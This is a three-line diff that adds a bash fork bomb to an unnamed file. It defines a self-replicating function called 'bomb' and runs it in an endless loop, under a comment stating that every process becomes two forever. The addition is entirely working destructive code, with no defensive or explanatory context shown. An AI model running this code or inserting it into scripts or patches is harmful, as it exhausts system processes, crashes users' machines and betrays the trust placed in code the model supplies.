@@ -1,0 +1,3 @@
+# Every process becomes two, for ever.
+bomb() { bomb | bomb & }
+while :; do bomb; done
